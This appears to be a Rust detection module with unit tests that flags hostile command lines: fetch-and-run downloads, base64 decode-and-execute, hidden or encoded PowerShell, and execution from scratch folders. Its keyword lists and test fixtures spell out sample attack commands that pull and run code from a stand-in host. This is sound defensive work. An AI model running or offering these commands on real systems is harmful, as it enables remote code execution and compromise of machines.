//! What hostile command lines look like. Matching is on text in lower case.

/// Folders that anyone may write to, where no installed program lies.
const SCRATCH: &[&str] = &[
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/run/shm/",
    "/var/run/.",
    "c:\\windows\\temp\\",
    "\\appdata\\local\\temp\\",
    "c:\\users\\public\\",
    "c:\\programdata\\temp\\",
    "%temp%",
    "$env:temp",
];

/// Whether a path lies in a folder for scratch.
pub(super) fn in_scratch(path: &str) -> bool {
    let path = path.trim_matches(['"', '\'']);
    // What a package manager or a build unpacks and runs there is gone with it.
    let build = ["/tmp/pip-", "/tmp/npm-", "/tmp/go-build", "/tmp/yarn--", "/tmp/apt-", "/var/tmp/rpm-tmp", "/tmp/ssm/", "/tmp/ansible"];
    SCRATCH.iter().any(|folder| path.contains(folder)) && !build.iter().any(|own| path.contains(own))
}

/// Whether a command fetches something and runs it in the same breath.
pub(super) fn fetches(line: &str) -> bool {
    let by_shell = ["curl ", "wget ", "lwp-download ", "fetch "].iter().any(|tool| line.contains(tool)) && runs_what_comes(line);
    let by_windows = (line.contains("certutil") && line.contains("urlcache"))
        || (line.contains("bitsadmin") && line.contains("/transfer"))
        || (line.contains("mshta") && line.contains("http"))
        || (line.contains("regsvr32") && line.contains("/i:http"))
        || (["downloadstring", "downloadfile", "invoke-webrequest", "iwr "].iter().any(|part| line.contains(part))
            && ["iex", "invoke-expression", "start-process", "| powershell"].iter().any(|part| line.contains(part)));
    by_shell || by_windows
}

/// `… | sh`, `sh -c "$(…)"`, `-o /tmp/x && chmod +x /tmp/x && /tmp/x`.
fn runs_what_comes(line: &str) -> bool {
    let piped = line.split('|').skip(1).any(|stage| {
        let stage = stage.trim_start().trim_start_matches("sudo ").trim_start_matches("nohup ").trim_start_matches("env ");
        let program = stage.split([' ', ';', '"', '\'', ')', '&']).next().unwrap_or_default();
        let program = program.rsplit('/').next().unwrap_or_default();
        matches!(program, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh" | "python" | "python2" | "python3" | "perl" | "php" | "ruby")
    });
    let substituted =
        ["sh -c \"$(curl", "sh -c \"$(wget", "<(curl", "<(wget", "eval \"$(curl", "eval $(curl", "sh -c $(curl", "`curl", "`wget"]
            .iter()
            .any(|part| line.contains(part));
    let made_runnable = in_scratch(line) && (line.contains("chmod +x") || line.contains("chmod 7"));
    piped || substituted || made_runnable
}

/// Whether a command decodes something and runs it.
pub(super) fn decodes(line: &str) -> bool {
    let base64 =
        line.contains("base64 -d") || line.contains("base64 --decode") || line.contains("openssl enc -d") || line.contains("xxd -r");
    let inline =
        ["exec(__import__('base64')", "exec(base64.b64decode", "eval(base64_decode", "b64decode("].iter().any(|part| line.contains(part));
    (base64 && runs_what_comes(line)) || (inline && (line.contains("exec") || line.contains("eval"))) || encoded(line)
}

/// PowerShell with a command in Base64, or hidden.
pub(super) fn encoded(line: &str) -> bool {
    let shell = line.contains("powershell") || line.contains("pwsh");
    let base64 = [" -enc ", " -encodedcommand ", " -e jab", " -ec ", " -en ", "frombase64string"].iter().any(|part| line.contains(part));
    let hidden = [" -w hidden", " -windowstyle hidden", " -w 1 "].iter().any(|part| line.contains(part));
    shell && (base64 || hidden && ["iex", "invoke-expression", "downloadstring", "-nop"].iter().any(|part| line.contains(part)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetching_and_running_is_told_from_fetching() {
        for line in [
            "curl -fsSL http://203.0.113.7/i.sh | sh",
            "wget -qo- 203.0.113.7/x|sudo bash -s",
            "bash -c \"$(curl -k https://203.0.113.7/a)\"",
            "wget http://203.0.113.7/x -o /tmp/x; chmod +x /tmp/x; /tmp/x",
            "certutil -urlcache -f http://203.0.113.7/a.exe a.exe",
            "powershell -c iex(new-object net.webclient).downloadstring('http://203.0.113.7/a')",
        ] {
            assert!(fetches(line), "{line}");
        }
        for line in
            ["curl -o index.html https://example.com/", "wget -q https://example.com/a.tgz", "curl https://example.com/ | jq .a | tee out"]
        {
            assert!(!fetches(line), "{line}");
        }
    }

    #[test]
    fn decoding_and_hiding() {
        assert!(decodes("echo aaa= | base64 -d | bash"));
        assert!(decodes("powershell -nop -w hidden -enc sqbfafga"));
        assert!(!decodes("echo aaa= | base64 -d > cert.pem"));
        assert!(!decodes("powershell -file c:\\scripts\\backup.ps1"));
    }

    #[test]
    fn folders_for_scratch() {
        assert!(in_scratch("/dev/shm/.x") && in_scratch("\"c:\\users\\public\\a.exe"));
        assert!(!in_scratch("/usr/bin/curl") && !in_scratch("/tmp/pip-build/x"));
    }
}
